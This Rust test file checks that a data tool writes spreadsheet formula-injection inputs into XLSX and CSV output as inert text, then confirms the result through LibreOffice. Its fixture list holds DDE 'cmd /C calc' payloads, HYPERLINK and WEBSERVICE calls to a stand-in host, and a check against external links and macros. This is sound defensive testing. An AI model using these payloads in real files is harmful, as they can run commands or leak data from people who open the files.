//! Text that a spreadsheet program would run goes through the program as text, into workbooks and CSV alike;
//! what is written is opened in LibreOffice and every cell is read back.
#[allow(dead_code)]
#[path = "table/house.rs"]
mod house;
mod support;

use dataworth::portfolio::raw::{Limits, RawValue, read_in_process};
use dataworth::table::Value;
use dataworth::table::guard::{needs_guard, unguarded};
use house::{HEADS, House, cell};
use std::path::Path;
use support::{Cells, cached, formulas, parts, reload_libreoffice};

/// What somebody may type or have typed for him; each is found again by its mark.
fn hostile() -> Vec<(String, String)> {
    let texts = [
        "=1+1&\"MARK\"",
        "=HYPERLINK(\"http://192.0.2.1/?MARK\",\"here\")",
        "+cmd|' /C calc'!MARK",
        "-2+3+cmd|' /C calc'!MARK",
        "@SUM(1+1)*cmd|' /C calc'!MARK",
        "=DDE(\"cmd\",\"/C calc\",\"MARK\")",
        "=WEBSERVICE(\"http://192.0.2.1/MARK\")",
        "＝1+1&\"MARK\"",
        "＋MARK",
        "－MARK",
        "＠MARK",
        "'=MARK",
        "''=MARK",
        "'MARK'",
        "{=MARK}",
        "[MARK.xlsx]表!A1",
        "'[MARK.xlsx]表'!A1",
        "../../MARK",
        "/etc/MARK",
        "C:\\MARK",
        "<b>MARK</b>&amp;]]><![CDATA[",
        "_x0041_MARK",
        "MARK\",=1+1,\"",
        "MARK;=1+1",
        "MARK\u{7}bell\u{b}tab\u{1b}",
        "MARK\u{202e}fdp.exe",
        "MARK=1+1",
    ];
    let with =
        |(at, text): (usize, &&str)| (format!("INJ{at:02}"), text.replace("MARK", &format!("INJ{at:02}")));
    texts.iter().enumerate().map(with).collect()
}

/// Control characters are shown by their symbols: XML cannot carry them.
fn shown(text: &str) -> String {
    text.replace('\u{7}', "␇").replace('\u{b}', "␋").replace('\u{1b}', "␛")
}

fn quoted(field: &str) -> String {
    format!("\"{}\"", field.replace('"', "\"\""))
}

/// Every cell with a mark is the text that was typed; each mark is found.
fn all_texts(cells: &Cells, wanted: &[(String, String)], what: &str) {
    for (mark, text) in wanted {
        let holding: Vec<&Value> = cells
            .values()
            .filter(|value| matches!(value, Value::Text(own) if own.contains(mark.as_str())))
            .collect();
        let whole = holding.iter().any(|value| matches!(value, Value::Text(own) if own == text));
        assert!(whole, "{what}: {mark} is {holding:?}, not {text:?}");
    }
}

#[test]
fn a_workbook_holds_hostile_text_as_text() {
    let folder = tempfile::tempdir().unwrap();
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/workbooks");
    let models = folder.path().join("models");
    for part in ["methods", "parameters"] {
        std::fs::create_dir_all(models.join(part)).unwrap();
        for entry in std::fs::read_dir(fixtures.join("models").join(part)).unwrap() {
            let path = entry.unwrap().path();
            // A model's label becomes the name of a sheet.
            let label = r#"zh = "=cmd|'/c calc'!A0[]:*?/\\../""#;
            let text = std::fs::read_to_string(&path).unwrap().replace("zh = \"测试单列法\"", label);
            std::fs::write(models.join(part).join(path.file_name().unwrap()), text).unwrap();
        }
    }
    let hostile = hostile();
    let mut text =
        "资产编号,名称,权利,模型,测试税率,利润率,管理费(元),评估基准日,合法来源,来源证据\n".to_string();
    for (at, (_, words)) in hostile.iter().enumerate() {
        // The CSV a person saves: what begins with an apostrophe must say so itself.
        let typed = if needs_guard(words) { format!("'{words}") } else { words.clone() };
        let words = quoted(&typed);
        text += &format!("{words},{words},持有权,test.flat,0.2,10%,{},2025-12-31,是,{words}\n", 1000 + at);
    }
    std::fs::write(folder.path().join("in.csv"), text).unwrap();
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_dataworth"));
    command.args(["price", "in.csv", "-o", "out.xlsx", "--models", "models"]).current_dir(folder.path());
    let done = command.output().unwrap();
    assert!(matches!(done.status.code(), Some(0 | 1)), "{}", String::from_utf8_lossy(&done.stderr));
    let mut names: Vec<String> = std::fs::read_dir(folder.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names, ["in.csv", "models", "out.xlsx"]);

    let out = folder.path().join("out.xlsx");
    let wanted: Vec<(String, String)> =
        hostile.iter().map(|(mark, text)| (mark.clone(), shown(text))).collect();
    let cells = cached(&out).unwrap();
    all_texts(&cells, &wanted, "as written");
    for (at, formula) in formulas(&out).unwrap() {
        // Names of sheets stand between apostrophes, where nothing runs.
        let formula: String = formula.replace("''", "").split('\'').step_by(2).collect();
        for word in ["INJ", "cmd", "HYPERLINK(\"http", "WEBSERVICE", "DDE", "[1]"] {
            assert!(!formula.contains(word), "{at:?} runs {formula}");
        }
    }
    nothing_from_outside(&out);
    if let Some(again) = reload_libreoffice(&out) {
        all_texts(&again, &wanted, "through LibreOffice");
        let differs = |(at, value): &(&(String, String), &Value)| {
            matches!(value, Value::Text(text) if text.contains("INJ")) && again.get(*at) != Some(value)
        };
        let differing: Vec<_> = cells.iter().filter(differs).collect();
        assert!(differing.is_empty(), "{differing:?}");
    }
}

/// No part points outside the file, and none is of a kind that can.
fn nothing_from_outside(path: &Path) {
    for (name, text) in parts(path).unwrap() {
        let kind = ["externalLink", "connections", "queryTable", "oleObject", "activeX", "vbaProject"];
        assert!(kind.iter().all(|kind| !name.contains(kind)), "{name}");
        assert!(!text.contains("TargetMode=\"External\""), "{name} points outside");
        assert!(!text.contains("<externalReference") && !text.contains("ddeLink"), "{name}");
        assert!(
            text.chars().all(|c| c >= ' ' || matches!(c, '\t' | '\n' | '\r')),
            "{name} holds a control character"
        );
    }
}

#[test]
fn a_csv_holds_hostile_text_as_text_and_gives_it_back() {
    let house = House::new();
    let hostile = hostile();
    let mut text = HEADS.join(",") + "\n";
    for (row, (_, words)) in hostile.iter().enumerate() {
        let typed = if needs_guard(words) { format!("'{words}") } else { words.clone() };
        let cells: Vec<String> = (1..HEADS.len()).map(|column| cell(row, column)).collect();
        text += &format!("{},{}\n", quoted(&typed), cells.join(","));
    }
    house.text("in.csv", &text);
    house.price(&["in.csv", "-o", "out.csv"]);
    // What is read back is what was typed.
    let book = read_in_process(&house.path("out.csv"), &Limits::default()).unwrap().value;
    let texts: Vec<&str> = book.sheets[0]
        .cells
        .iter()
        .filter_map(|cell| match &cell.value {
            RawValue::Text(text) if cell.col == 0 && cell.row > 0 => Some(text.as_str()),
            _ => None,
        })
        .collect();
    let wanted: Vec<String> = hostile.iter().map(|(_, text)| shown(text)).collect();
    assert_eq!(texts, wanted);
    // As the file has it, nothing begins with what is run.
    let bytes = String::from_utf8(house.bytes("out.csv")).unwrap();
    let mut rows = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes.trim_start_matches('\u{feff}').as_bytes());
    for row in rows.records() {
        for field in row.unwrap().iter().filter(|field| field.contains("INJ")) {
            assert!(!field.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']), "{field}");
        }
    }
    if let Some(cells) = reload_libreoffice(&house.path("out.csv")) {
        let guarded = |text: &String| if needs_guard(text) { format!("'{text}") } else { text.clone() };
        let wanted: Vec<(String, String)> =
            hostile.iter().zip(&wanted).map(|((mark, _), text)| (mark.clone(), guarded(text))).collect();
        all_texts(&cells, &wanted, "CSV through LibreOffice");
    }
}

#[test]
fn the_guard_gives_back_any_text() {
    let pieces = ["'", "=", "+", "-", "@", "\t", "\r", "＝", "a", " ", "\"", ","];
    for one in pieces {
        for two in pieces {
            for three in pieces {
                let text = [one, two, three].concat();
                let written = if needs_guard(&text) { format!("'{text}") } else { text.clone() };
                assert_eq!(unguarded(&written), text);
                assert!(!written.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']), "{written:?}");
            }
        }
    }
}
